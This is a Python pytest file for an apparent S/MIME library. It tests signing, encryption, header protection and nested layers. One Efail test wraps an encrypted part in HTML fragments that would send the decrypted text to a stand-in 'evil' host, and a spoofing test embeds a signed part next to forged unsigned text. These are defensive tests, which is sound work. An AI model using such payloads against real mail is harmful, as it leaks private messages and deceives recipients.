"""Whole messages: the recipes, nesting, headers, partial protection (spoofing, Efail)."""

from __future__ import annotations

import base64
import email
import email.utils

import pytest
from pki import DATE, PKI, Identity, message

import smimekit
from smimekit import Cipher, Digest
from smimekit.errors import (
    MIMEError,
    NoRecipientError,
    SignatureInvalidError,
    UntrustedError,
    VerificationError,
)

OUTER = [b"From: alice@example.org", b"To: bob@example.org", b"Subject: test",
         b"Date: " + DATE.encode(), b"Message-ID: <t1@example.org>"]


def _headers_kept(data: bytes) -> None:
    head = data.split(b"\r\n\r\n", 1)[0]
    for line in OUTER:
        assert line in head


@pytest.mark.parametrize("opaque", [False, True])
def test_sign_verify_keeps_outer_headers_and_content(alice: Identity, trust: list,
                                                     opaque: bool) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert, opaque=opaque)
    _headers_kept(signed)
    ctype = (b"application/pkcs7-mime; smime-type=signed-data" if opaque else
             b'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256')
    assert ctype in signed
    result = smimekit.verify(signed, trust=trust)
    assert result.verdict.valid
    _headers_kept(result.content)
    assert result.content.endswith(b"\r\n\r\nHello, world.\r\n")
    assert [layer.kind for layer in result.verdict.layers] == ["signed"]


@pytest.mark.parametrize("digest", list(Digest))
def test_micalg_names_the_digest(alice: Identity, digest: Digest) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert, digest=digest)
    assert f"micalg={digest.micalg}".encode() in signed


def test_verify_tolerates_lf_only_transport(alice: Identity, trust: list) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert)
    assert smimekit.verify(signed.replace(b"\r\n", b"\n"), trust=trust).verdict.valid


def test_email_message_input_is_accepted(alice: Identity, trust: list) -> None:
    msg = email.message.EmailMessage()
    msg["From"] = "alice@example.org"
    msg["To"] = "bob@example.org"
    msg["Subject"] = "object input"
    msg.set_content("Grüße aus Köln\n")
    result = smimekit.verify(smimekit.sign(msg, alice.key, alice.cert), trust=trust)
    assert "Grüße aus Köln" in result.as_message().get_content()


def test_altered_signed_part_fails(alice: Identity, trust: list) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert)
    with pytest.raises(SignatureInvalidError):
        smimekit.verify(signed.replace(b"Hello, world.", b"Hello, World."), trust=trust)


def test_untrusted_signer_is_reported_with_the_verdict(alice: Identity, bob: Identity) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert)
    with pytest.raises(UntrustedError) as info:
        smimekit.verify(signed, trust=[bob.cert])
    verdict = info.value.verdict
    assert verdict is not None and verdict.signers[0].intact and not verdict.signers[0].trusted
    assert "no chain to a trust anchor" in str(info.value)


def test_report_without_raising(alice: Identity) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert)
    result = smimekit.verify(signed, trust=[], raise_for_failure=False)
    assert not result.verdict.valid
    assert "no trust anchors" in result.verdict.summary()
    assert '"valid": false' in result.verdict.to_json()


def test_from_must_match_the_signer_certificate(alice: Identity, trust: list) -> None:
    signed = smimekit.sign(message(sender="ceo@example.org"), alice.key, alice.cert)
    result = smimekit.verify(signed, trust=trust, raise_for_failure=False)
    assert result.verdict.signers[0].from_match is False
    assert not result.verdict.valid


@pytest.mark.parametrize("cipher", list(Cipher))
def test_encrypt_decrypt_keeps_headers(alice: Identity, bob: Identity, cipher: Cipher) -> None:
    sealed = smimekit.encrypt(message(), [alice.cert, bob.cert], cipher=cipher)
    smime_type = b"authEnveloped-data" if cipher.authenticated else b"enveloped-data"
    assert b"smime-type=" + smime_type in sealed
    # Header protection (RFC 9788, the default): the Subject is hidden outside ...
    outside = sealed.split(b"\r\n\r\n", 1)[0]
    assert b"Subject: [...]" in outside
    assert [line for line in OUTER if line not in outside] == [b"Subject: test"]
    # ... and every field, the Subject too, comes back from inside the encryption.
    for who in (alice, bob):
        out = smimekit.decrypt(sealed, who.key, who.cert)
        _headers_kept(out.content)
        assert out.content.endswith(b"Hello, world.\r\n")
        assert out.cipher == cipher.value


def test_sign_encrypt_then_decrypt_verify_reports_both_layers(alice: Identity, bob: Identity,
                                                              trust: list) -> None:
    sealed = smimekit.sign_encrypt(message(), alice.key, alice.cert, [bob.cert])
    result = smimekit.decrypt_verify(sealed, bob.key, bob.cert, trust=trust)
    assert [x.kind for x in result.verdict.layers] == ["encrypted", "signed"]
    assert result.verdict.valid
    # The sender is a recipient of her own sent copy.
    assert smimekit.decrypt(sealed, alice.key, alice.cert).content


def test_decrypt_leaves_the_inner_signature_for_verify(alice: Identity, bob: Identity,
                                                       trust: list) -> None:
    sealed = smimekit.sign_encrypt(message(), alice.key, alice.cert, [bob.cert])
    inner = smimekit.decrypt(sealed, bob.key, bob.cert).content
    assert b"multipart/signed" in inner
    assert smimekit.verify(inner, trust=trust).verdict.valid


def test_triple_wrap_sign_encrypt_sign(alice: Identity, bob: Identity, trust: list) -> None:
    inner = smimekit.sign_encrypt(message(), alice.key, alice.cert, [bob.cert])
    outer = smimekit.sign(inner, alice.key, alice.cert)
    result = smimekit.decrypt_verify(outer, bob.key, bob.cert, trust=trust)
    assert [x.kind for x in result.verdict.layers] == ["signed", "encrypted", "signed"]
    assert len(result.verdict.signers) == 2 and result.verdict.valid


def test_encrypt_then_sign(alice: Identity, bob: Identity, trust: list) -> None:
    sealed = smimekit.sign(smimekit.encrypt(message(), [bob.cert]), alice.key, alice.cert,
                           opaque=True)
    result = smimekit.decrypt_verify(sealed, bob.key, bob.cert, trust=trust)
    assert [x.kind for x in result.verdict.layers] == ["signed", "encrypted"]


def test_verify_of_encrypted_message_asks_for_a_key(alice: Identity, bob: Identity) -> None:
    with pytest.raises(NoRecipientError, match="private key is needed"):
        smimekit.verify(smimekit.encrypt(message(), [bob.cert]), trust=[])


def test_decrypt_of_plain_message_says_it_is_not_encrypted(bob: Identity) -> None:
    with pytest.raises(MIMEError, match="not encrypted"):
        smimekit.decrypt(message(), bob.key, bob.cert)


def _mixed(*parts: bytes) -> bytes:
    body = b"".join(b"--outer\r\n" + p + b"\r\n" for p in parts) + b"--outer--\r\n"
    return (b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: mixed\r\n"
            b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="outer"\r\n\r\n'
            + body)


def _entity(data: bytes) -> bytes:
    return data.split(b"MIME-Version: 1.0\r\n", 1)[1]


def test_signed_part_inside_unsigned_mixed_is_partially_signed(alice: Identity, trust: list
                                                               ) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert)
    forged = _mixed(b"Content-Type: text/plain\r\n\r\nYou are fired.", _entity(signed))
    with pytest.raises(VerificationError, match="only a part of the message is signed") as info:
        smimekit.verify(forged, trust=trust)
    assert info.value.verdict is not None and info.value.verdict.partially_signed


def test_efail_encrypted_part_is_decrypted_alone(bob: Identity) -> None:
    sealed = smimekit.encrypt(message(body=b"the secret\r\n"), [bob.cert])
    hostile = _mixed(b'Content-Type: text/html\r\n\r\n<img src="http://evil/?', _entity(sealed),
                     b'Content-Type: text/html\r\n\r\n">')
    out = smimekit.decrypt(hostile, bob.key, bob.cert)
    assert out.partial
    assert b"the secret" in out.content
    assert b"evil" not in out.content and b"<img" not in out.content


def test_unsigned_message_is_not_signed(trust: list) -> None:
    with pytest.raises(VerificationError, match="not signed"):
        smimekit.verify(message(), trust=trust)


def test_legacy_x_pkcs7_types_are_read(alice: Identity, trust: list) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert, opaque=True)
    legacy = signed.replace(b"application/pkcs7-mime", b"application/x-pkcs7-mime")
    assert smimekit.verify(legacy, trust=trust).verdict.valid
    detached = smimekit.sign(message(), alice.key, alice.cert)
    legacy = detached.replace(b"application/pkcs7-signature", b"application/x-pkcs7-signature")
    assert smimekit.verify(legacy, trust=trust).verdict.valid


def test_pss_and_ski_and_chain_options(pki: PKI, trust: list) -> None:
    carol = pki.person("carol", "rsa3072")
    signed = smimekit.sign(message(sender="carol@example.org"), carol.key, carol.cert, pss=True,
                           use_ski=True, chain=[pki.inter], digest=Digest.SHA512)
    result = smimekit.verify(signed, trust=trust)
    signer = result.verdict.signers[0]
    assert signer.signature_algorithm == "rsa-pss" and signer.digest_algorithm == "sha512"
    assert len(signer.chain) == 3


def test_signed_bytes_survive_base64_reencoding(alice: Identity, trust: list) -> None:
    signed = smimekit.sign(message(), alice.key, alice.cert, opaque=True)
    head, body = signed.split(b"\r\n\r\n", 1)
    rewrapped = base64.encodebytes(base64.b64decode(body)).replace(b"\n", b"\r\n")
    assert smimekit.verify(head + b"\r\n\r\n" + rewrapped, trust=trust).verdict.valid


def _dated(when: str) -> bytes:
    return message().replace(b"Date: " + DATE.encode(), b"Date: " + when.encode())


def test_old_signature_under_a_newer_date_fails(alice: Identity, trust: list) -> None:
    import datetime as dt

    signed = smimekit.sign(_dated(DATE), alice.key, alice.cert,
                           signing_time=dt.datetime.now(dt.UTC) - dt.timedelta(hours=3))
    result = smimekit.verify(signed, trust=trust, raise_for_failure=False)
    assert not result.verdict.valid
    assert "more than an hour older than the Date header" in result.verdict.summary()


def test_mail_signed_long_after_its_date_only_warns(alice: Identity, trust: list) -> None:
    signed = smimekit.sign(_dated("Mon, 26 Jan 2026 14:38:03 +0000"), alice.key, alice.cert)
    result = smimekit.verify(signed, trust=trust)
    assert result.verdict.valid
    assert any("after the Date header" in w for w in result.verdict.warnings)


def test_signing_time_outside_certificate_validity_fails(alice: Identity, trust: list) -> None:
    import datetime as dt

    when = alice.cert.not_valid_before_utc - dt.timedelta(days=2)
    signed = smimekit.sign(_dated(email.utils.format_datetime(when)), alice.key, alice.cert,
                           signing_time=when)
    result = smimekit.verify(signed, trust=trust, raise_for_failure=False)
    assert "outside the certificate's validity" in result.verdict.summary()


def test_archive_validation_at_signing_time(pki: PKI, trust: list) -> None:
    import datetime as dt

    short = pki.person("short", "rsa2048", fresh_key=True,
                       not_before=dt.datetime.now(dt.UTC) - dt.timedelta(days=30),
                       not_after=dt.datetime.now(dt.UTC) + dt.timedelta(days=1),
                       issuer=(pki.root_key, pki.root))
    signed = smimekit.sign(message(sender="short@example.org"), short.key, short.cert)
    later = dt.datetime.now(dt.UTC) + dt.timedelta(days=10)
    expired = smimekit.verify(signed, trust=trust, at=later, raise_for_failure=False)
    assert not expired.verdict.valid and "expired" in expired.verdict.summary()
    archived = smimekit.verify(signed, trust=trust, at="signing-time")
    assert archived.verdict.valid
    assert archived.verdict.signers[0].validation_time == archived.verdict.signers[0].signing_time
    assert any("signer asserted" in w for w in archived.verdict.warnings)
